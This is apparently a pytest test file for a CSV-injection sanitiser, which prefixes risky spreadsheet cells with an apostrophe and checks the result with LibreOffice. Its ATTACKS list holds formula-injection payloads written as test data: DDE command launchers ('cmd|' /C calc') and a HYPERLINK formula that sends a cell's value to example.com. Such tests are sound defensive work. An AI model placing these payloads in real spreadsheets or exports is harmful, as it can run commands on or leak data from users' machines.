"""Cells that a spreadsheet would run: harmless in a file, and what they were when read back."""

import csv
import shutil
import subprocess

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from psychoseg.spreadsheet import harmless, harmless_frame, unharmed
from tests.conftest import skip_or_fail

#: What OWASP's "CSV Injection" page and spreadsheets' own habits name as starts of a formula.
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u201c=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\x00=1+1",
    "-",
    "+49 170 1234567",
    "-3,5",
    "-3.5%",
    "@handle",
]
PLAIN = [
    "",
    " ",
    "a=b",
    "'tis fine",
    "''",
    '"quoted"',
    "5",
    "-3.5",
    "+4",
    "-1e-05",
    " -3.5",
    "1-2",
    "10 - 12 years",
    "e-mail",
    "x@example.com",
    "Strongly agree",
    "100%",
    "\u2212 3",
]
#: Texts made of the signs that matter, where a mistake would hide among ordinary letters.
TRICKY = st.text(st.sampled_from("'\"=+-@ \t\r\n\u00a0\ufeff\uff1d.0123e"), max_size=8)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert harmless(text) == "'" + text
    assert unharmed(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_stay_as_they_are(text):
    assert harmless(text) == text
    assert unharmed(text) == text


@settings(max_examples=2000, deadline=None)
@given(st.one_of(st.text(), TRICKY))
@example("'")
@example("''=1")
def test_every_text_comes_back(text):
    assert unharmed(harmless(text)) == text


@settings(max_examples=2000, deadline=None)
@given(TRICKY, TRICKY)
@example("=1", "'=1")
@example("-3.5", "'-3.5")
def test_two_texts_never_become_one(a, b):
    assert (harmless(a) == harmless(b)) == (a == b)


@settings(max_examples=1000, deadline=None)
@given(st.one_of(st.text(), TRICKY))
def test_harmless_text_starts_with_no_sign_that_runs(text):
    safe = harmless(text)
    runs = safe[:1] in {*"=+-@\t\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
    assert not runs or pd.to_numeric(safe, errors="coerce") == float(safe)


def test_a_table_is_made_harmless_in_its_texts_categories_and_names_only():
    frame = pd.DataFrame(
        {
            "=name": np.array(["=1", "plain", None], dtype=object),
            "text": pd.array(["@x", "", "y"], dtype="str"),
            "category": pd.Categorical(["-a", "b", None], categories=["b", "-a"], ordered=True),
            "number": [-1.5, 2.0, float("nan")],
            "truth": [True, False, True],
        },
        index=[3, 4, 5],
    )
    before = frame.copy(deep=True)
    safe = harmless_frame(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert list(safe.columns) == ["'=name", "text", "category", "number", "truth"]
    assert list(safe["'=name"])[:2] == ["'=1", "plain"]
    assert safe["'=name"].isna().tolist() == [False, False, True]
    assert list(safe["text"]) == ["'@x", "", "y"]
    assert list(safe["category"].cat.categories) == ["b", "'-a"]
    assert safe["category"].cat.ordered
    pd.testing.assert_series_equal(safe["number"], frame["number"])
    pd.testing.assert_series_equal(safe["truth"], frame["truth"])
    assert safe.index.tolist() == [3, 4, 5]


def test_names_that_repeat_and_a_table_of_nothing_are_taken():
    frame = pd.DataFrame([["=1", "@2"]], columns=["=a", "=a"])
    assert harmless_frame(frame).to_numpy().tolist() == [["'=1", "'@2"]]
    assert harmless_frame(pd.DataFrame()).empty


def test_libreoffice_computes_no_harmless_cell(tmp_path):
    soffice = shutil.which("soffice")
    if soffice is None:
        skip_or_fail("LibreOffice is not installed")
    # Those that a CSV file can hold in one line, the full-width ones included.
    texts = [t for t in ATTACKS if not set(t) & set("\r\n\x00")]
    for name, cells in (("raw", texts), ("safe", [harmless(t) for t in texts])):
        with (tmp_path / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([[cell] for cell in cells])
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                "--headless",
                "--convert-to",
                "fods",
                "--outdir",
                str(tmp_path),
                "--infilter=CSV:44,34,76,1,,0,false,true,false,true",
                str(tmp_path / f"{name}.csv"),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
    formulas = {
        n: (tmp_path / f"{n}.fods").read_text().count("table:formula") for n in ("raw", "safe")
    }
    assert formulas["raw"] > 0, "the file as it was is run, or this test could not fail"
    assert formulas["safe"] == 0
